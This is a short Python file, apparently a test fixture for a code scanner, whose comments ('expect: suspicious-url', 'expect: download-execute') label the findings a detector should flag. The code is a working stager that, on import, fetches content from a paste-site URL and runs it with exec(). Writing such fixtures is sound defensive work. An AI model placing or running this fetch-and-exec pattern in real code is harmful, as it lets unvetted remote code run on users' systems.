# ruff: noqa
# fmt: off
import urllib.request

STAGE = None


def fetch():
    global STAGE
    STAGE = urllib.request.urlopen("https://ghostbin.co/paste/x/raw").read()  # expect: suspicious-url


def run():
    exec(STAGE)  # expect: download-execute


fetch()
run()
